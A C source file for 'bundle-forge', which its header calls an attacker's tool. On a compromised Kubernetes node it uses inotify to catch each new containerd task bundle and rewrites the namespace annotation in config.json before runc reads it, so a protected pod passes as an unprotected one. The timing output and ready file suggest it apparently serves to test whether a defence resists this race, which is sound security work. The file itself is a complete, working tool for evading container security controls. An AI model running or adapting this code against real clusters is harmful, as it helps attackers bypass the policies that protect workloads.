/*
 * bundle-forge: the attacker's tool for the bundle-namespace-forge technique.
 * Root on the node rewrites the OCI spec containerd writes into a new task's
 * bundle (config.json), between containerd writing it and runc reading it:
 * the annotation that names the pod's namespace is changed from <from> to
 * <to>, so that a defence that believes the bundle takes a protected pod for
 * an unprotected one.
 *
 * 1. watches <task dir> (containerd's `io.containerd.runtime.v2.task/k8s.io`)
 *    with inotify for new bundle directories, and each new one for files
 *    written into it;
 * 2. creates <ready file> once the watch is in place;
 * 3. when a bundle's config.json has been written (IN_CLOSE_WRITE or
 *    IN_MOVED_TO; also at once if it is already there when the directory is
 *    seen), and it names namespace <from>, rewrites it with <to> instead and
 *    prints `forged <bundle id> <ms since start>`;
 * 4. ends after <count> bundles, or after <seconds>.
 *
 * Exit 0 when <count> bundles were forged, 2 when time ran out first, 1 on
 * a usage or inotify error.
 *
 * usage: bundle-forge <task dir> <from> <to> <count> <seconds> <ready file>
 * Build: gcc -static -O2 -o bundle-forge bundle-forge.c
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

#define MAX_BUNDLES 256
#define MAX_SPEC (1 << 20)

static const char *task_dir;
static char needle[256], replacement[256];
static struct { int wd; char id[128]; int forged; } bundles[MAX_BUNDLES];
static int nbundles, forged;
static struct timespec t0;

static long elapsed_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000;
}

/* Rewrites <task dir>/<id>/config.json when it names the namespace; 1 if it did. */
static int forge(int i) {
  static char spec[MAX_SPEC], out[MAX_SPEC + 256];
  char path[4096];
  if (bundles[i].forged) return 0;
  snprintf(path, sizeof path, "%s/%s/config.json", task_dir, bundles[i].id);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t n = read(fd, spec, sizeof spec - 1);
  close(fd);
  if (n <= 0) return 0;
  spec[n] = 0;
  char *at = strstr(spec, needle);
  if (!at) return 0;
  size_t head = (size_t)(at - spec);
  memcpy(out, spec, head);
  memcpy(out + head, replacement, strlen(replacement));
  size_t tail = (size_t)n - head - strlen(needle);
  memcpy(out + head + strlen(replacement), at + strlen(needle), tail);
  size_t total = head + strlen(replacement) + tail;
  fd = open(path, O_WRONLY | O_TRUNC);
  if (fd < 0 || write(fd, out, total) != (ssize_t)total) {
    fprintf(stderr, "bundle-forge: cannot rewrite %s: %s\n", path, strerror(errno));
    if (fd >= 0) close(fd);
    return 0;
  }
  close(fd);
  bundles[i].forged = 1;
  printf("forged %s %ld\n", bundles[i].id, elapsed_ms());
  fflush(stdout);
  return 1;
}

int main(int argc, char **argv) {
  if (argc != 7) {
    fprintf(stderr, "usage: bundle-forge <task dir> <from> <to> <count> <seconds> <ready file>\n");
    return 1;
  }
  task_dir = argv[1];
  snprintf(needle, sizeof needle, "\"io.kubernetes.cri.sandbox-namespace\":\"%s\"", argv[2]);
  snprintf(replacement, sizeof replacement, "\"io.kubernetes.cri.sandbox-namespace\":\"%s\"", argv[3]);
  int count = atoi(argv[4]);
  long deadline = atol(argv[5]) * 1000;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  int in = inotify_init1(IN_CLOEXEC);
  if (in < 0 || inotify_add_watch(in, task_dir, IN_CREATE | IN_ONLYDIR) < 0) {
    fprintf(stderr, "bundle-forge: cannot watch %s: %s\n", task_dir, strerror(errno));
    return 1;
  }
  int ready = open(argv[6], O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (ready < 0) {
    fprintf(stderr, "bundle-forge: cannot create %s: %s\n", argv[6], strerror(errno));
    return 1;
  }
  close(ready);
  char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
  while (forged < count) {
    long left = deadline - elapsed_ms();
    if (left <= 0) return 2;
    struct pollfd p = { .fd = in, .events = POLLIN };
    if (poll(&p, 1, (int)left) <= 0) continue;
    ssize_t len = read(in, buf, sizeof buf);
    for (char *ptr = buf; len > 0 && ptr < buf + len;) {
      struct inotify_event *ev = (struct inotify_event *)ptr;
      ptr += sizeof *ev + ev->len;
      if (ev->len == 0) continue;
      if ((ev->mask & IN_ISDIR) && (ev->mask & IN_CREATE) && nbundles < MAX_BUNDLES) {
        /* A new bundle: watch it, then look once, in case containerd wrote config.json already. */
        char dir[4096];
        snprintf(dir, sizeof dir, "%s/%s", task_dir, ev->name);
        int wd = inotify_add_watch(in, dir, IN_CLOSE_WRITE | IN_MOVED_TO);
        if (wd < 0) continue;
        bundles[nbundles].wd = wd;
        snprintf(bundles[nbundles].id, sizeof bundles[nbundles].id, "%s", ev->name);
        forged += forge(nbundles++);
        continue;
      }
      if (strcmp(ev->name, "config.json") != 0) continue;
      for (int i = 0; i < nbundles; i++)
        if (bundles[i].wd == ev->wd) forged += forge(i);
    }
  }
  return 0;
}
